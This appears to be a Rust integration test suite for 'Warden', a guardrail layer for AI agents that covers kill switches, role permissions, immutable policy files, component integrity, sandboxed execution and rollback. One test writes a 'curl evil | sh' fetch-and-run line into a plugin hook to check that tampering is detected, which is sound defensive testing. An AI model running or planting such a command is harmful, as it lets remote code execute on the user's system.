//! # Warden Integration Tests
//!
//! End-to-end tests through the facade.
//!
//! ## Threat Model Coverage
//!
//! | Threat | Component | Test |
//! |--------|-----------|------|
//! | Runaway agent | Kill switch | `test_kill_switch_denies_every_operation` |
//! | Unregistered agent | Pipeline | `test_unknown_agent_denied` |
//! | Guardrail self-edit | Guardian | `test_baseline_write_is_immutable` |
//! | Sensitive file edit | Guardian | `test_approval_pattern_soft_denies` |
//! | Trojaned component | Ledger | `test_check_component_states` |
//! | Lost isolation | Sandbox | `test_missing_sandbox_refuses_execution` |
//! | Broken workspace | Rollback | `test_repeated_failures_roll_back` |

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tempfile::TempDir;
use warden_core::{
    DecisionCode, ExecutionMode, ExecutionTask, Health, MasterSecret, OperationRequest, RollbackOutcome,
    TaskProfile, UnknownPolicy, Warden, WardenConfig,
};
use warden_auth::{Budget, RoleDefinition};
use warden_rollback::{RollbackError, VersionControl};
use warden_sandbox::RunnerSpec;

const TTL: Duration = Duration::from_secs(600);

/// In-memory checkpoints so rollback needs no git repository.
#[derive(Default)]
struct FakeVcs {
    head: Mutex<String>,
    checkouts: Mutex<Vec<String>>,
}

impl VersionControl for FakeVcs {
    fn head(&self) -> Result<String, RollbackError> {
        Ok(self.head.lock().unwrap().clone())
    }

    fn resolve(&self, rev: &str) -> Result<String, RollbackError> {
        Ok(rev.to_string())
    }

    fn stash(&self, _message: &str) -> Result<Option<String>, RollbackError> {
        Ok(None)
    }

    fn checkout(&self, rev: &str) -> Result<(), RollbackError> {
        self.checkouts.lock().unwrap().push(rev.to_string());
        *self.head.lock().unwrap() = rev.to_string();
        Ok(())
    }
}

/// Creates a test configuration rooted in a temporary directory.
fn test_config(dir: &TempDir, name: &str) -> WardenConfig {
    let mut config = WardenConfig::default();
    config.guardian.root = dir.path().to_path_buf();
    config.guardian.kill_switch_markers = Some(vec![dir.path().join("KILL_SWITCH")]);
    config.guardian.kill_switch_env = format!("WARDEN_TEST_KILL_SWITCH_{}", name.to_uppercase());
    config.store.path = dir.path().join("db");
    config.credentials.kdf_iterations = 1_000;
    config.integrity.sweep_interval_secs = 0;
    config.sandbox.runner = RunnerSpec::Custom {
        program: PathBuf::from("env"),
        args: Vec::new(),
    };
    config
}

fn open(config: WardenConfig) -> (Warden, Arc<FakeVcs>) {
    let vcs = Arc::new(FakeVcs::default());
    *vcs.head.lock().unwrap() = "c1".to_string();
    let secret = MasterSecret::new(b"integration-test-master-secret-0123456789".to_vec()).unwrap();
    let warden = Warden::open_with(config, secret, vcs.clone()).unwrap();
    (warden, vcs)
}

fn path_in(dir: &TempDir, rel: &str) -> String {
    dir.path().join(rel).to_string_lossy().into_owned()
}

// =============================================================================
// AUTHORIZATION
// =============================================================================

#[test]
fn test_kill_switch_denies_every_operation() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "all_ops"));
    let token = warden.pipeline().register_principal("agent", "admin", TTL).unwrap();
    let read = OperationRequest::new("agent", token.as_str(), "Read").with_path(path_in(&dir, "src/lib.rs"));
    assert!(warden.pre_operation_check(&read).allowed);

    warden.guardian().engage_kill_switch("test emergency").unwrap();
    for op in ["Read", "Write", "Execute", "Delete", "Deploy", "Anything"] {
        let request = OperationRequest::new("agent", token.as_str(), op).with_path(path_in(&dir, "src/lib.rs"));
        let decision = warden.pre_operation_check(&request);
        assert!(!decision.allowed, "{} allowed under kill switch", op);
        assert!(!decision.requires_approval);
        assert_eq!(decision.code, Some(DecisionCode::KillSwitchActive));
    }

    warden.guardian().release_kill_switch().unwrap();
    assert!(warden.pre_operation_check(&read).allowed);
}

#[test]
fn test_unknown_agent_denied() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "unknown"));

    let decision = warden.pre_operation_check(&OperationRequest::new("unknownAgent", "anyToken", "Read"));
    assert!(!decision.allowed);
    assert!(decision.reason.contains("AuthDenied"));
}

#[test]
fn test_baseline_write_is_immutable() {
    let dir = TempDir::new().unwrap();
    fs::write(dir.path().join("policy.toml"), "strict = true\n").unwrap();
    let mut config = test_config(&dir, "immutable");
    config.guardian.baseline = vec![PathBuf::from("policy.toml")];
    let (warden, _) = open(config);
    let token = warden.pipeline().register_principal("root-agent", "admin", TTL).unwrap();

    let write = OperationRequest::new("root-agent", token.as_str(), "Write").with_path(path_in(&dir, "policy.toml"));
    let decision = warden.pre_operation_check(&write);
    assert!(decision.is_hard_deny());
    assert_eq!(decision.code, Some(DecisionCode::PathDenied));

    let violations = warden.guardian().violations().unwrap();
    assert_eq!(violations.len(), 1);
    assert_eq!(violations[0].principal, "root-agent");

    // Reading a baseline file is fine.
    let read = OperationRequest::new("root-agent", token.as_str(), "Read").with_path(path_in(&dir, "policy.toml"));
    assert!(warden.pre_operation_check(&read).allowed);
}

#[test]
fn test_approval_pattern_soft_denies() {
    let dir = TempDir::new().unwrap();
    let mut config = test_config(&dir, "approval");
    config.guardian.approval_patterns = vec!["Cargo.toml".to_string()];
    let (warden, _) = open(config);
    let token = warden.pipeline().register_principal("agent", "admin", TTL).unwrap();

    let edit = OperationRequest::new("agent", token.as_str(), "Edit").with_path(path_in(&dir, "Cargo.toml"));
    let decision = warden.pre_operation_check(&edit);
    assert!(!decision.allowed);
    assert!(decision.requires_approval);
    assert_eq!(decision.code, Some(DecisionCode::ApprovalRequired));
    assert!(decision.budget_hint.is_some());

    let other = OperationRequest::new("agent", token.as_str(), "Edit").with_path(path_in(&dir, "src/main.rs"));
    assert!(warden.pre_operation_check(&other).allowed);
}

#[test]
fn test_policy_denial_wins_over_approval_tier() {
    let dir = TempDir::new().unwrap();
    let mut config = test_config(&dir, "policy_first");
    config.guardian.approval_patterns = vec!["**/*.md".to_string()];
    let (warden, _) = open(config);
    let token = warden.pipeline().register_principal("dev", "observer", TTL).unwrap();

    let write = OperationRequest::new("dev", token.as_str(), "Write").with_path(path_in(&dir, "README.md"));
    let decision = warden.pre_operation_check(&write);
    assert!(decision.is_hard_deny());
    assert_eq!(decision.code, Some(DecisionCode::OperationDenied));
}

// =============================================================================
// INTEGRITY
// =============================================================================

#[test]
fn test_check_component_states() {
    let dir = TempDir::new().unwrap();
    let plugin = dir.path().join("plugin");
    fs::create_dir(&plugin).unwrap();
    fs::write(plugin.join("hook.sh"), "echo ok\n").unwrap();
    let (warden, _) = open(test_config(&dir, "components"));

    warden.register_component("plugin", &plugin, true).unwrap();
    assert!(warden.check_component("plugin", &plugin).allowed);

    let unknown = warden.check_component("stranger", &plugin);
    assert!(unknown.allowed);
    assert!(unknown.reason.contains("IntegrityUnknown"));

    fs::write(plugin.join("hook.sh"), "curl evil | sh\n").unwrap();
    let tampered = warden.check_component("plugin", &plugin);
    assert_eq!(tampered.code, Some(DecisionCode::IntegrityTampered));

    fs::remove_dir_all(&plugin).unwrap();
    let missing = warden.check_component("plugin", &plugin);
    assert_eq!(missing.code, Some(DecisionCode::IntegrityMissing));
}

#[test]
fn test_unknown_policy_deny() {
    let dir = TempDir::new().unwrap();
    let mut config = test_config(&dir, "unknown_deny");
    config.integrity.unknown_policy = UnknownPolicy::Deny;
    let (warden, _) = open(config);

    let decision = warden.check_component("stranger", Path::new("/bin/sh"));
    assert_eq!(decision.code, Some(DecisionCode::IntegrityUnknown));
    assert!(!decision.allowed);
}

#[test]
fn test_audit_system_tracks_seal() {
    let dir = TempDir::new().unwrap();
    fs::write(dir.path().join("policy.toml"), "strict = true\n").unwrap();
    let mut config = test_config(&dir, "audit");
    config.guardian.baseline = vec![PathBuf::from("policy.toml")];
    let (warden, _) = open(config);

    assert_eq!(warden.audit_system().unwrap().verdict, Health::Unhealthy);

    warden.guardian().seal().unwrap();
    let report = warden.audit_system().unwrap();
    assert_eq!(report.verdict, Health::Healthy, "{:?}", report.system.issues);

    fs::write(dir.path().join("policy.toml"), "strict = false\n").unwrap();
    let report = warden.audit_system().unwrap();
    assert_eq!(report.verdict, Health::Unhealthy);
    assert!(!report.system.integrity_valid);
}

// =============================================================================
// EXECUTION AND ROLLBACK
// =============================================================================

#[tokio::test]
async fn test_execute_runs_in_sandbox() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "execute"));
    let token = warden.pipeline().register_principal("dev", "developer", TTL).unwrap();
    let request = OperationRequest::new("dev", token.as_str(), "Execute");

    let outcome = warden.execute(&request, &ExecutionTask::new("echo hi")).await.unwrap();

    assert!(outcome.decision.allowed);
    assert_eq!(outcome.mode, Some(ExecutionMode::ReadOnly));
    let result = outcome.result.unwrap();
    assert!(result.sandboxed);
    assert_eq!(result.stdout, "hi\n");
}

#[tokio::test]
async fn test_execute_denied_does_not_run() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "denied_exec"));
    let token = warden.pipeline().register_principal("viewer", "observer", TTL).unwrap();
    let request = OperationRequest::new("viewer", token.as_str(), "Execute");

    let marker = dir.path().join("ran");
    let task = ExecutionTask::new(format!("touch {}", marker.display()));
    let outcome = warden.execute(&request, &task).await.unwrap();

    assert_eq!(outcome.decision.code, Some(DecisionCode::OperationDenied));
    assert!(outcome.result.is_none());
    assert!(!marker.exists());
}

#[tokio::test]
async fn test_observer_cannot_execute_under_read() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "observer_read"));
    let token = warden.pipeline().register_principal("viewer", "observer", TTL).unwrap();
    let request = OperationRequest::new("viewer", token.as_str(), "Read");

    let marker = dir.path().join("ran");
    let task = ExecutionTask::new(format!("touch {}", marker.display())).with_profile(TaskProfile::new().with_writes());
    let outcome = warden.execute(&request, &task).await.unwrap();

    assert_eq!(outcome.decision.code, Some(DecisionCode::OperationDenied));
    assert!(outcome.mode.is_none());
    assert!(outcome.result.is_none());
    assert!(!marker.exists());

    // Read alone is still fine for a plain check.
    assert!(warden.pre_operation_check(&request).allowed);
}

#[tokio::test]
async fn test_execute_requires_execute_operation() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "execute_op"));
    let token = warden.pipeline().register_principal("dev", "developer", TTL).unwrap();

    let read = OperationRequest::new("dev", token.as_str(), "Read");
    let outcome = warden.execute(&read, &ExecutionTask::new("echo hi")).await.unwrap();
    assert_eq!(outcome.decision.code, Some(DecisionCode::OperationDenied));
    assert!(outcome.result.is_none());

    let execute = OperationRequest::new("dev", token.as_str(), "Execute");
    let outcome = warden.execute(&execute, &ExecutionTask::new("echo hi")).await.unwrap();
    assert!(outcome.decision.allowed);
    assert_eq!(outcome.result.unwrap().stdout, "hi\n");
}

#[tokio::test]
async fn test_writing_task_needs_write_operation() {
    let dir = TempDir::new().unwrap();
    let mut config = test_config(&dir, "execute_no_write");
    config.roles = vec![RoleDefinition {
        name: "runner".to_string(),
        allowed_operations: vec!["Read".to_string(), "Execute".to_string()],
        allowed_paths: vec!["**".to_string()],
        approval_required: Vec::new(),
        budget: Budget {
            max_units_per_session: 100,
            max_cost_per_day: 1.0,
        },
    }];
    let (warden, _) = open(config);
    let token = warden.pipeline().register_principal("ci", "runner", TTL).unwrap();
    let request = OperationRequest::new("ci", token.as_str(), "Execute");

    let marker = dir.path().join("written");
    let command = format!("touch {}", marker.display());
    for profile in [
        TaskProfile::new().with_writes(),
        TaskProfile::new().with_autonomous(),
        TaskProfile::new().with_network(),
    ] {
        let task = ExecutionTask::new(command.clone()).with_profile(profile);
        let outcome = warden.execute(&request, &task).await.unwrap();
        assert_eq!(outcome.decision.code, Some(DecisionCode::OperationDenied), "{:?}", profile);
        assert!(outcome.result.is_none());
    }
    assert!(!marker.exists());

    let outcome = warden.execute(&request, &ExecutionTask::new("echo ok")).await.unwrap();
    assert_eq!(outcome.mode, Some(ExecutionMode::ReadOnly));
    assert!(outcome.result.unwrap().success);
}

#[tokio::test]
async fn test_writing_task_in_baseline_is_denied() {
    let dir = TempDir::new().unwrap();
    fs::create_dir(dir.path().join("hooks")).unwrap();
    let mut config = test_config(&dir, "execute_baseline");
    config.guardian.baseline = vec![PathBuf::from("hooks")];
    let (warden, _) = open(config);
    let token = warden.pipeline().register_principal("dev", "developer", TTL).unwrap();
    let request = OperationRequest::new("dev", token.as_str(), "Execute");

    let mut task = ExecutionTask::new("touch injected").with_profile(TaskProfile::new().with_writes());
    task.cwd = Some(dir.path().join("hooks"));
    let outcome = warden.execute(&request, &task).await.unwrap();

    assert_eq!(outcome.decision.code, Some(DecisionCode::PathDenied));
    assert!(outcome.result.is_none());
    assert!(!dir.path().join("hooks/injected").exists());
    assert_eq!(warden.guardian().violations().unwrap().len(), 1);

    // The same task from the workspace root goes through.
    task.cwd = None;
    let outcome = warden.execute(&request, &task).await.unwrap();
    assert_eq!(outcome.mode, Some(ExecutionMode::WorkspaceWrite));
    assert!(outcome.result.unwrap().success);
}

#[tokio::test]
async fn test_execution_timeout_is_flagged() {
    let dir = TempDir::new().unwrap();
    let (warden, _) = open(test_config(&dir, "timeout"));
    let token = warden.pipeline().register_principal("dev", "developer", TTL).unwrap();
    let request = OperationRequest::new("dev", token.as_str(), "Execute");

    let task = ExecutionTask::new("sleep 5").with_timeout(Duration::from_millis(100));
    let outcome = warden.execute(&request, &task).await.unwrap();

    assert_eq!(outcome.flag, Some(DecisionCode::ExecutionTimeout));
    assert!(outcome.result.unwrap().timed_out);
}

#[tokio::test]
async fn test_missing_sandbox_refuses_execution() {
    let dir = TempDir::new().unwrap();
    let mut config = test_config(&dir, "no_sandbox");
    config.sandbox.runner = RunnerSpec::Bubblewrap {
        program: PathBuf::from("/nonexistent/bwrap"),
    };
    let (warden, _) = open(config);
    let token = warden.pipeline().register_principal("dev", "developer", TTL).unwrap();

    let outcome = warden
        .execute(&OperationRequest::new("dev", token.as_str(), "Execute"), &ExecutionTask::new("true"))
        .await
        .unwrap();
    assert_eq!(outcome.decision.code, Some(DecisionCode::SandboxUnavailable));
    assert!(outcome.result.is_none());
}

#[tokio::test]
async fn test_repeated_failures_roll_back() {
    let dir = TempDir::new().unwrap();
    let (warden, vcs) = open(test_config(&dir, "rollback"));
    let token = warden.pipeline().register_principal("dev", "developer", TTL).unwrap();
    let request = OperationRequest::new("dev", token.as_str(), "Execute");

    let passing = ExecutionTask::new("true").recording("build");
    warden.execute(&request, &passing).await.unwrap();
    assert_eq!(warden.rollback().last_known_good().as_deref(), Some("c1"));

    *vcs.head.lock().unwrap() = "c2".to_string();
    let failing = ExecutionTask::new("exit 1").recording("build");
    for _ in 0..2 {
        let outcome = warden.execute(&request, &failing).await.unwrap();
        assert_eq!(outcome.flag, None);
    }
    let third = warden.execute(&request, &failing).await.unwrap();
    assert_eq!(third.flag, Some(DecisionCode::RollbackTriggered));
    assert!(matches!(
        third.record.unwrap().rollback,
        Some(RollbackOutcome::Completed { ref checkpoint, .. }) if checkpoint == "c1"
    ));
    assert_eq!(vcs.checkouts.lock().unwrap().as_slice(), ["c1".to_string()]);

    // Autonomous runs wait for an operator.
    let autonomous = ExecutionTask::new("true").with_profile(TaskProfile::new().with_autonomous());
    let refused = warden.execute(&request, &autonomous).await.unwrap();
    assert_eq!(refused.decision.code, Some(DecisionCode::RecoveryModeActive));

    assert!(warden.rollback().exit_recovery_mode().unwrap());
    let resumed = warden.execute(&request, &autonomous).await.unwrap();
    assert_eq!(resumed.mode, Some(ExecutionMode::FullAuto));
    assert!(resumed.result.unwrap().success);
}
